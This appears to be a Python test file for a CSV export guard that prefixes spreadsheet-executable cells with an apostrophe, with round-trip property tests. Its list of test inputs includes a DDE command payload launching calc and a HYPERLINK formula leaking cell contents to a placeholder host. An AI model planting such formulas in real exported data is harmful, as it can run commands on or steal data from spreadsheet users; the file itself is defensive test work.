import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from leads.capture.cells import guard, unguard
from reports.exports import csv_lines

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "\x00=1+1",
    "'=1+1",
    "+49 30 1234567",
    "=1+1\x00",
]
HARMLESS = [
    '"=1+1"',
    'a";=1+1;"',
    "a,=1+1",
    "%0A=1+1",
    "",
    "O'Neill",
    "'s-Hertogenbosch",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert guard(text) == text


@given(st.text())
@example("'=1+1")
@example("''=1+1")
def test_a_guarded_text_is_found_again(text):
    assert unguard(guard(text)) == text


@given(st.text())
def test_guarding_is_undone_once_and_not_more(text):
    assert unguard(guard(guard(text))) == guard(text)


def test_numbers_stay_numbers_and_every_cell_is_quoted():
    (_, line) = csv_lines(header=["n"], rows=[[-5, 0.25, None, "-5"]])

    assert line == '"-5","0.25","","\'-5"\r\n'


@given(st.lists(st.text(st.characters(blacklist_characters="\x00")), min_size=1))
def test_a_row_is_read_back_as_it_was_written(cells):
    text = "".join(csv_lines(header=[], rows=[cells]))

    *_, row = csv.reader(io.StringIO(text, newline=""))
    assert [unguard(cell) for cell in row] == cells
